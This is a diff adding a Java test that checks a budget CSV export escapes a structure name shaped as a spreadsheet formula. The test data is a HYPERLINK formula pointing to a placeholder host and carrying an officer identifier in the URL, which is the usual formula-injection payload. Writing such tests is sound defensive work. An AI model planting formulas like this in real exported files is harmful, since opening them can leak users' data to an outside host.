@@ -132,6 +132,19 @@ class BudgetExportTests {
                 .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
     }
 
+    @Test
+    void aStructureNamedLikeAFormulaIsTextInTheExport() throws Exception {
+        anEnvelopeWithTwoMissions();
+        String formula = "=HYPERLINK(\"http://example.invalid/" + territory.officer() + "\";\"Ouvrir\")";
+        jdbc.update("update budget_mission set structure_name = ? where structure_name = ?", formula, invoicedStructure);
+
+        String csv = mvc.perform(get("/budget/export.csv").param("year", String.valueOf(year))
+                        .with(logins.as(territory.officer())))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString();
+
+        assertThat(csv).contains("'=HYPERLINK(").doesNotContain(";=HYPERLINK(").doesNotContain(";\"=HYPERLINK(");
+    }
+
     private String structureOf(Accompaniment accompaniment) {
         return jdbc.queryForObject("select structure_name from budget_mission where accompaniment_id = ?",
                 String.class, accompaniment.getId());
